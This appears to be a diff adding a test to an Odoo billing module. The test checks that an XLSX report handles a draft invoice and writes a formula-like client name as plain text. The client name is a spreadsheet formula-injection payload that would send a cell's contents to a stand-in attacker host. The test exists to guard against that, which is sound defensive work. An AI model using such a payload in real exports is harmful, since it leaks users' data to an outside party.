@@ -54,6 +54,52 @@ class TestBillingReport(StekasBillingCommon):
         )
         self.assertAlmostEqual(groups[0][0], 72.0, places=2)
 
+    def _read_xlsx(self, wizard):
+        action = wizard.action_xlsx_report()
+        attachment = self.env["ir.attachment"].browse(
+            int(action["url"].split("/")[3].split("?")[0])
+        )
+        return openpyxl.load_workbook(io.BytesIO(base64.b64decode(attachment.datas)))
+
+    def test_xlsx_with_draft_invoice_and_formula_like_name(self):
+        """The report of a period the run has just billed (a draft prepayment
+        invoice, no number yet) works, and a client's name that looks like a
+        formula is written as text."""
+        name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+        self.client_b.write(
+            {
+                "name": name,
+                "stekas_billing_mode": "invoice_month",
+                "stekas_hourly_rate": 40.0,
+            }
+        )
+        self._log(20, datetime(2026, 1, 12, 9), ticket=self.ticket_b)
+        wizard = (
+            self.env["stekas.billing.run"]
+            .with_user(self.accountant)
+            .create(
+                {
+                    "date_from": date(2026, 1, 1),
+                    "date_to": date(2026, 1, 31),
+                    "send_statements": False,
+                }
+            )
+        )
+        invoice = self.env["account.move"].search(wizard.action_run()["domain"])
+        self.assertEqual(invoice.state, "draft")
+        sheet = self._read_xlsx(wizard).active
+        rows = {
+            row[0].value: row
+            for row in sheet.iter_rows(min_row=4)
+            if row[0].value is not None
+        }
+        self.assertIn(name, rows)
+        client = rows[name][0]
+        self.assertEqual(client.data_type, "s")
+        self.assertEqual(rows[name][8].data_type, "s")
+        self.assertEqual(rows[name][8].value, invoice.display_name)
+        self.assertAlmostEqual(rows[name][7].value, 16.0, places=2)
+
     def test_consultant_cannot_read_report(self):
         with self.assertRaises(AccessError):
             self.env["stekas.billing.report"].with_user(self.consultant).search([])
